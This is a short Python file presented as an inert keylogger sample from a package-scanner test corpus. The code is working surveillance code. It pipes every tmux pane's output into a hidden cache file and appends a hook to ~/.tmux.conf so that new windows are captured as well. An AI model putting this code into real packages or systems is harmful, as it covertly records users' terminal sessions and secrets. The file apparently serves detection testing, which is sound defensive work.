# pkgguard corpus 872 (keylogger), modelled on [developer-persistence]; inert, never run.
import os
import shutil
import subprocess

log = os.path.expanduser("~/.cache/.tmux-pane")
if shutil.which("tmux") and os.environ.get("TMUX"):
    panes = subprocess.run(["tmux", "list-panes", "-a", "-F", "#{pane_id}"], capture_output=True, text=True).stdout.split()
    for pane in panes:
        subprocess.run(["tmux", "pipe-pane", "-o", "-t", pane, f"cat >> {log}"], capture_output=True)
    line = f"set-hook -g after-new-window 'pipe-pane -o \"cat >> {log}\"'\n"
    with open(os.path.expanduser("~/.tmux.conf"), "a", encoding="utf-8") as fh:
        fh.write(line)
